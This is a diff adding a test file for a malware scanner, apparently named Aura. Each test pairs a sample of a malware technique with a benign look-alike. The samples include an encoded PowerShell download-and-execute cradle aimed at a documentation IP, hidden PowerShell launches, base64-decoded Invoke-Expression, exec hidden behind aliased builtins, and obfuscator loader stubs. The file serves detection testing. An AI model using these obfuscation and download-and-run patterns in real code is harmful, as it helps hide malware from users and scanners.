@@ -1,0 +1,204 @@
+#!/usr/bin/env bats
+# 47-recall.bats: techniques of recent malware Aura used to miss (issue 11), each with the
+# benign look-alike that must not fire.
+
+load helpers/common
+load helpers/parse
+load helpers/analyze
+
+setup() {
+	cd "$BATS_TEST_TMPDIR"
+}
+
+# hits FILE: "line detection name context score" of every hit.
+hits() {
+	scan "$1" | jq -r 'select(.type == "hit") | "\(.line) \(.detection) \(.name) \(.context) \(.score)"'
+}
+
+@test "a process command split across list arguments is matched as one command line" {
+	py m.py <<'PY'
+import subprocess
+subprocess.Popen(['powershell.exe', '-NoProfile', '-WindowStyle', 'Hidden', '-File', 'x.ps1'])
+PY
+	run dets m.py DownloadAndRun
+	assert_output "2 DownloadAndRun powershell.exe -NoProfile -WindowStyle Hidden import 70"
+	run jq -r 'select(.type == "ast") | .tree | .. | objects | select(._command) | ._command' \
+		< <(file_record m.py | aura-parse | aura-rewrite)
+	assert_output "powershell.exe -NoProfile -WindowStyle Hidden -File x.ps1"
+}
+
+@test "look-alike: a build's list command, and words that only read alike one by one, match nothing" {
+	py m.py <<'PY'
+import subprocess
+subprocess.run(['git', 'describe', '--tags'])
+subprocess.run(['pwsh', '-File', 'build.ps1'], check=True)
+print(['powershell', '-w', 'hidden'])
+PY
+	run dets m.py DownloadAndRun EncodedPowerShell
+	assert_output ""
+}
+
+@test "powershell -EncodedCommand in a list: the UTF-16LE base64 is decoded and analysed" {
+	enc=$(printf "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')" | iconv -t UTF-16LE | base64 -w0)
+	py m.py <<PY
+import subprocess
+subprocess.run(['powershell', '-NoP', '-EncodedCommand', '$enc'])
+PY
+	run dets m.py RawIPURL
+	assert_output "2 RawIPURL http://203.0.113.9/x import 40"
+}
+
+@test "look-alike: '-e' before a word that is no UTF-16LE base64 decodes nothing" {
+	py m.py <<'PY'
+import subprocess
+subprocess.run(['perl', '-e', 'aHR0cDovLzIwMy4wLjExMy45L3g='])
+PY
+	run jq -r 'select(.type == "ast") | .tree | .. | objects | select(._command) | ._command' \
+		< <(file_record m.py | aura-parse | aura-rewrite)
+	assert_output "perl -e aHR0cDovLzIwMy4wLjExMy45L3g="
+}
+
+@test "PowerShell that decodes base64 and runs it (Invoke-Expression) is EncodedPowerShell" {
+	py m.py <<'PY'
+def drop(path):
+    code = '''$c = [Convert]::FromBase64String($b)
+$cmd = [Text.Encoding]::UTF8.GetString($c)
+Invoke-Expression $cmd'''
+    open(path, 'w').write(code)
+PY
+	run dets m.py EncodedPowerShell
+	assert_output "2 EncodedPowerShell Invoke-Expression function 50"
+}
+
+@test "look-alike: base64 decoding in PowerShell without running the result is not EncodedPowerShell" {
+	py m.py <<'PY'
+SCRIPT = '''$bytes = [Convert]::FromBase64String($cert)
+[IO.File]::WriteAllBytes("cert.der", $bytes)'''
+PY
+	run dets m.py EncodedPowerShell
+	assert_output ""
+}
+
+@test "a library function handed to a thread is called: Thread(target=os.system) is a shell command" {
+	py m.py <<'PY'
+import threading, os
+threading.Thread(target=__import__("os").system, args=["id"]).start()
+PY
+	run dets m.py ShellCommand
+	assert_output "2 ShellCommand os.system import 50"
+}
+
+@test "look-alike: a thread running the module's own function, or print, is no shell command" {
+	py m.py <<'PY'
+import threading
+def work():
+    return 1
+threading.Thread(target=work).start()
+threading.Thread(target=print, args=["x"]).start()
+PY
+	run dets m.py ShellCommand ProcessExecution
+	assert_output ""
+}
+
+@test "a decorator applied as a call runs the def's body where the def is" {
+	py m.py <<'PY'
+import os
+class Client:
+    @staticmethod
+    @lambda _: _()
+    def load():
+        os.system("curl x")
+def run(f):
+    f()
+    return f
+@run
+def go():
+    os.popen("id")
+PY
+	run dets m.py ShellCommand
+	assert_output "$(printf '6 ShellCommand os.system import 50\n12 ShellCommand os.popen import 50')"
+}
+
+@test "look-alike: decorators that wrap or register without calling leave the body a function" {
+	py m.py <<'PY'
+import os, functools
+REG = []
+def register(f):
+    REG.append(f)
+    return f
+def logged(f):
+    @functools.wraps(f)
+    def inner(*a):
+        return f(*a)
+    return inner
+@register
+def a():
+    os.system("a")
+@logged
+def b():
+    os.system("b")
+@(lambda f: f)
+def c():
+    os.system("c")
+PY
+	run dets m.py ShellCommand
+	assert_output "$(printf '13 ShellCommand os.system function 2\n16 ShellCommand os.system function 2\n19 ShellCommand os.system function 2')"
+}
+
+@test "builtins aliased by tuple unpacking: the alias resolves, and the renaming is ObfuscatorStub" {
+	py m.py <<'PY'
+Calculate, System, _math = exec, str, map
+Calculate(System(1))
+PY
+	run dets m.py ObfuscatorStub CodeExecution
+	assert_output "$(printf '1 ObfuscatorStub __aura__.builtin_alias import 60\n2 CodeExecution builtins.exec import 40')"
+}
+
+@test "look-alike: tuple unpacking of builtins that run no code, or of constants, is no stub" {
+	py m.py <<'PY'
+_str, _int = str, int
+a, b = 1, 2
+exec, x = exec, 1
+PY
+	run dets m.py ObfuscatorStub
+	assert_output ""
+}
+
+@test "setattr(builtins, <computed name>, ...) is an obfuscator's loader" {
+	py m.py <<'PY'
+plant = lambda d: [setattr(__builtins__, k, v) for k, v in d.items()]
+plant({"IlIl": exec})
+PY
+	run dets m.py ObfuscatorStub
+	assert_output "1 ObfuscatorStub __aura__.builtins_write function 30"
+}
+
+@test "look-alike: setattr(builtins, 'name', ...) with a fixed name is a compatibility shim" {
+	py m.py <<'PY'
+import builtins
+setattr(builtins, 'unicode', str)
+setattr(object(), name, 1)
+PY
+	run dets m.py ObfuscatorStub
+	assert_output ""
+}
+
+@test "PyArmor loaders are ObfuscatorStub: the code is encrypted" {
+	py m.py <<'PY'
+from pyarmor_runtime_000000 import __pyarmor__
+__pyarmor__(__name__, __file__, b'PY000000\x00\x03')
+PY
+	run dets m.py ObfuscatorStub
+	assert_output "2 ObfuscatorStub pyarmor_runtime_000000.__pyarmor__ import 100"
+}
+
+@test "look-alike: a module or function merely named runtime is no PyArmor loader" {
+	py m.py <<'PY'
+from app import runtime
+runtime()
+import armor
+armor.pyarmor_like()
+PY
+	run dets m.py ObfuscatorStub
+	assert_output ""
+}
